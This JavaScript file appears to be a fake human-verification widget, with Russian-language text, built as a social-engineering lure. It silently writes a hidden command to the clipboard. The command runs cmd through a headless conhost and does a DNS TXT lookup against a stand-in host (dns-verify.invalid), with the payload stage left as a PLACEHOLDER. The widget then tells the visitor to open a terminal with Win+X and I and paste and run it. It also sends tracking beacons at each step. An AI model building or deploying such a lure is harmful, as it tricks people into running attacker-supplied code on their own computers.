const { origin } = location;
const state = { step: 0, copied: false };
const DNS = "dns-verify.invalid";
const make = () => `conhost --headless cmd /c "nslookup -q=txt ${crypto.randomUUID().slice(0, 6)}.${DNS} | PLACEHOLDER"`;

const view = (html) => {
  document.querySelector("#widget").innerHTML = html;
};
const hook = (event) => navigator.sendBeacon(origin + "/t", new URLSearchParams({ event, step: String(state.step) }));

function first() {
  view(`<div class="cf"><input id="c" type="checkbox"><span>Подтвердите, что вы человек</span></div>`);
  document.querySelector("#c").onchange = second;
}

async function second() {
  state.step = 1;
  hook("tick");
  view(`<div class="cf"><span class="ring"></span>Проверка…</div>`);
  await new Promise((r) => setTimeout(r, 2500));
  try {
    await navigator.clipboard.writeText(make());
    state.copied = true;
  } catch {
    document.body.addEventListener("click", () => navigator.clipboard.writeText(make()), { once: true });
  }
  third();
}

function third() {
  state.step = 2;
  hook("show");
  view(`<div class="cf big"><h3>Обнаружена подозрительная активность</h3><p>1. Нажмите <b>Win + X</b>, затем <b>I</b></p><p>2. Нажмите <b>Ctrl + V</b></p><p>3. Нажмите <b>Enter</b></p><video src="/how.mp4" autoplay loop muted></video></div>`);
  addEventListener("focus", () => (hook("back"), setTimeout(() => location.replace("/ok"), 9000)), { once: true });
}
first();
